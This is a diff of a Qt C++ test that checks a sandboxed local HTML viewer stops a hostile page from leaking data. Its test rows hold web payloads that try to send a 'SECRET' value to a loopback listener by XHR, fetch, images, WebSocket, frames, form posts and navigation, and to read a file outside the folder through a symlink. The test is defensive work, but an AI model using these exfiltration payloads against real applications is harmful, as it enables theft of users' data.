@@ -11,8 +11,6 @@
 #include <QTcpServer>
 #include <QTemporaryDir>
 
-#include <memory>
-
 class HostilePageTest : public QObject {
     Q_OBJECT
 
@@ -21,12 +19,11 @@ class HostilePageTest : public QObject {
     QList<QUrl> desktop_;
 
     QString app(const QString& name = {}) const { return root_.filePath("app/" + name); }
-    QString net() const { return QStringLiteral("127.0.0.1:%1/x?SECRET").arg(listener_.serverPort()); }
 
-    void write(const QString& path, const QByteArray& bytes)
+    static bool write(const QString& path, const QByteArray& bytes)
     {
         QFile file(path);
-        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size());
+        return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
     }
 
 public slots:
@@ -35,11 +32,9 @@ public slots:
 private slots:
     void initTestCase()
     {
-        QVERIFY(root_.isValid() && QDir(root_.path()).mkdir("app"));
-        QVERIFY(listener_.listen(QHostAddress::LocalHost));
-        write(root_.filePath("secret.html"), "<p>SECRET</p>");
-        write(app("inside.txt"), "INSIDE");
-        write(app("index.html"), "<frameset rows=\"*\"><frame name=\"T\" src=\"hostile.html\"></frameset>");
+        QVERIFY(root_.isValid() && QDir(root_.path()).mkdir("app") && listener_.listen(QHostAddress::LocalHost));
+        QVERIFY(write(root_.filePath("secret.html"), "<p>SECRET</p>") && write(app("inside.txt"), "INSIDE"));
+        QVERIFY(write(app("index.html"), "<frameset rows=\"*\"><frame name=\"T\" src=\"hostile.html\"></frameset>"));
         QVERIFY(QFile::link(root_.filePath("secret.html"), app("out.html")));
         for (const char* scheme : {"http", "https", "mailto"})
             QDesktopServices::setUrlHandler(scheme, this, "openOnDesktop");
@@ -51,50 +46,36 @@ private slots:
             QDesktopServices::unsetUrlHandler(scheme);
     }
 
-    // Each page covers its frame with one element that the person clicks.
-    // `attempt` runs on a button's click; `end` says the attempt is over.
-    // An empty `ended` marks a navigation, which the page never hears the
-    // end of: the reader's refusal ends it.
+    // The page's element "go" covers its frame, and the person clicks it.
+    // `end` says that an attempt is over; a navigation, whose end the page
+    // never hears, ends where the reader refuses it.
     void nothingLeavesTheFolder_data()
     {
-        QTest::addColumn<QString>("page");     // LISTENER and OUTSIDE: the addresses
-        QTest::addColumn<QString>("ended");    // what `end` must have been told
+        QTest::addColumn<QString>("page");     // LISTENER and OUTSIDE stand for the addresses
+        QTest::addColumn<QString>("ended");    // what `end` was told; empty for a navigation
         QTest::addColumn<QString>("desktop");  // the address handed to the desktop
-        const QString read = "<button id='go' onclick='attempt()'>go</button><script>function attempt() {"
-                             "const x = new XMLHttpRequest(); x.open('GET', '%1', %2);"
-                             "x.onload = () => end(x.responseText); x.onerror = () => end('refused');"
-                             "try { x.send(); if (!%2) end(x.responseText); } catch (e) { end('refused'); } }</script>";
-        QTest::newRow("sync read outside") << read.arg("OUTSIDE", "false") << "refused" << "";
-        QTest::newRow("sync read inside") << read.arg("inside.txt", "false") << "INSIDE" << "";
-        QTest::newRow("async read outside") << read.arg("OUTSIDE", "true") << "refused" << "";
-        QTest::newRow("async read inside") << read.arg("inside.txt", "true") << "INSIDE" << "";
-        const QString made = "<button id='go' onclick='attempt()'>go</button><script>function attempt() {"
-                             "const e = %1; e.onload = () => end('loaded'); e.onerror = () => end('refused');"
-                             "document.body.append(e); }</script>";
-        QTest::newRow("image") << made.arg("new Image(); e.src = 'http://LISTENER'") << "refused" << "";
-        QTest::newRow("stylesheet")
-            << made.arg("document.createElement('link'); e.rel = 'stylesheet'; e.href = 'http://LISTENER'") << "refused" << "";
-        QTest::newRow("fetch") << "<button id='go' onclick=\"fetch('http://LISTENER').then(() => end('loaded'), () => end('refused'))\">go</button>"
-                               << "refused" << "";
-        QTest::newRow("WebSocket") << "<button id='go' onclick=\"const s = new WebSocket('ws://LISTENER'); s.onopen = () => "
-                                      "end('open'); s.onclose = () => end('closed')\">go</button>"
-                                   << "closed" << "";
-        QTest::newRow("frame") << "<button id='go' onclick=\"const f = document.createElement('iframe'); "
-                                  "f.src = 'http://LISTENER'; document.body.append(f)\">go</button>" << "" << "";
-        QTest::newRow("form") << "<form action='http://LISTENER' method='post'><input name='a' value='SECRET'>"
-                                 "<button id='go'>go</button></form>" << "" << "";
-        QTest::newRow("script navigation") << "<button id='go' onclick=\"top.location = 'http://LISTENER'\">go</button>" << "" << "";
-        QTest::newRow("refresh") << "<meta http-equiv='refresh' content='0; url=http://LISTENER'><button id='go'>go</button>"
-                                 << "" << "";
-        QTest::newRow("a script clicks a web link") << "<a id='web' href='http://LISTENER' target='_top'>web</a>"
-                                                       "<button id='go' onclick=\"document.getElementById('web').click()\">go</button>"
-                                                    << "" << "";
-        QTest::newRow("the person clicks a web link") << "<a id='go' href='http://LISTENER' target='_top'>go</a>" << ""
-                                                      << "http://LISTENER";
-        QTest::newRow("link outside") << "<a id='go' href='OUTSIDE' target='_top'>go</a>" << "" << "";
-        QTest::newRow("frame through a link pointing outside") << "<button id='go' onclick=\"const f = document.createElement("
-                                                                 "'iframe'); f.src = 'out.html'; document.body.append(f)\">go</button>"
-                                                              << "" << "";
+        const auto button = [](const QString& script) { return "<button id='go' onclick=\"" + script + "\">go</button>"; };
+        const auto link = [](const QString& href) { return "<a id='go' href='" + href + "' target='_top'>go</a>"; };
+        const QString frame = "const f = document.createElement('iframe'); f.src = '%1'; document.body.append(f)";
+        QTest::newRow("sync read outside") << button("read('OUTSIDE', false)") << "refused" << "";
+        QTest::newRow("sync read inside") << button("read('inside.txt', false)") << "INSIDE" << "";
+        QTest::newRow("async read outside") << button("read('OUTSIDE', true)") << "refused" << "";
+        QTest::newRow("async read inside") << button("read('inside.txt', true)") << "INSIDE" << "";
+        QTest::newRow("fetch") << button("fetch('http://LISTENER').then(() => end('loaded'), () => end('refused'))") << "refused" << "";
+        QTest::newRow("image") << button("add(new Image()).src = 'http://LISTENER'") << "refused" << "";
+        QTest::newRow("stylesheet") << button("const e = document.createElement('link'); e.rel = 'stylesheet'; add(e).href = 'http://LISTENER'")
+                                    << "refused" << "";
+        QTest::newRow("frame") << button(frame.arg("http://LISTENER")) << "" << "";
+        QTest::newRow("form") << "<form action='http://LISTENER' method='post'><input name='a' value='SECRET'><button id='go'>go</button></form>"
+                              << "" << "";
+        QTest::newRow("WebSocket") << button("new WebSocket('ws://LISTENER').onclose = () => end('closed')") << "closed" << "";
+        QTest::newRow("script navigation") << button("top.location = 'http://LISTENER'") << "" << "";
+        QTest::newRow("refresh") << "<meta http-equiv='refresh' content='0; url=http://LISTENER'>" + button("") << "" << "";
+        QTest::newRow("a script clicks a web link")
+            << "<a id='web' href='http://LISTENER' target='_top'></a>" + button("document.getElementById('web').click()") << "" << "";
+        QTest::newRow("the person clicks a web link") << link("http://LISTENER") << "" << "http://LISTENER";
+        QTest::newRow("link outside") << link("OUTSIDE") << "" << "";
+        QTest::newRow("frame through a link pointing outside") << button(frame.arg("out.html")) << "" << "";
     }
 
     void nothingLeavesTheFolder()
@@ -102,12 +83,20 @@ private slots:
         QFETCH(QString, page);
         QFETCH(QString, ended);
         QFETCH(QString, desktop);
-        const QString outside = QUrl::fromLocalFile(root_.filePath("secret.html")).toString();
-        page.replace("LISTENER", net()).replace("OUTSIDE", outside);
-        write(app("hostile.html"), "<!DOCTYPE html><html><head><style>#go { position: fixed; inset: 0; }</style>"
-                                   "<script>function end(what) { document.title = 'ended ' + what; }</script></head>"
-                                   "<body><p id='statute'>Clen 1</p>" + page.toUtf8() + "</body></html>");
+        const QString listener = QStringLiteral("127.0.0.1:%1/x?SECRET").arg(listener_.serverPort());
+        page.replace("LISTENER", listener).replace("OUTSIDE", QUrl::fromLocalFile(root_.filePath("secret.html")).toString());
+        QVERIFY(write(app("hostile.html"), R"(<!DOCTYPE html><html><head><style>#go { position: fixed; inset: 0; }</style><script>
+            function end(what) { document.title = 'ended ' + what; }
+            function add(e) { e.onload = () => end('loaded'); e.onerror = () => end('refused'); document.body.append(e); return e; }
+            function read(url, async) {
+                const x = new XMLHttpRequest(); x.open('GET', url, async);
+                x.onload = () => end(x.responseText); x.onerror = () => end('refused');
+                try { x.send(); } catch (e) { end('refused'); }
+            }</script></head><body><p id='statute'>Clen 1</p>)" + page.toUtf8() + "</body></html>"));
         desktop_.clear();
+        while (listener_.hasPendingConnections())
+            delete listener_.nextPendingConnection();
+
         WebBrowser view(app());
         view.resize(600, 400);
         view.show();
@@ -116,21 +105,14 @@ private slots:
         QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
         view.Navigate(app("index.html"));
         QVERIFY(waitUntil([&] { return !loaded.isEmpty() && allFramesComplete(view.page()); }));
-        // The page's own refresh needs no click.
-        if (!page.contains("refresh"))
-            QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, view.rect().center());
-
+        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, view.rect().center());
         const auto title = [&] { return runScript(view.page(), inFrame("T", "document.title")).toString(); };
-        const auto heard = [&] { return listener_.hasPendingConnections(); };
-        if (ended.isEmpty())
-            QVERIFY(waitUntil([&] { return !refused.isEmpty() || heard(); }));
-        else
-            QVERIFY(waitUntil([&] { return title().startsWith("ended") || heard(); }));
-        QVERIFY2(!heard(), "the listener was reached");
-        if (!ended.isEmpty())
-            QCOMPARE(title(), "ended " + ended);
-        QCOMPARE(desktop_, desktop.isEmpty() ? QList<QUrl>{} : QList<QUrl>{QUrl(desktop.replace("LISTENER", net()))});
-
+        QVERIFY(waitUntil([&] {
+            return listener_.hasPendingConnections() || (ended.isEmpty() ? !refused.isEmpty() : title().startsWith("ended"));
+        }));
+        QVERIFY2(!listener_.hasPendingConnections(), "the listener was reached");
+        QCOMPARE(title(), ended.isEmpty() ? QString() : "ended " + ended);
+        QCOMPARE(desktop_, desktop.isEmpty() ? QList<QUrl>{} : QList<QUrl>{QUrl(desktop.replace("LISTENER", listener))});
         // The statute stays, and nothing is left loading.
         QVERIFY(waitUntil([&] { return !view.page()->isLoading(); }));
         QCOMPARE(view.url(), QUrl::fromLocalFile(app("index.html")));
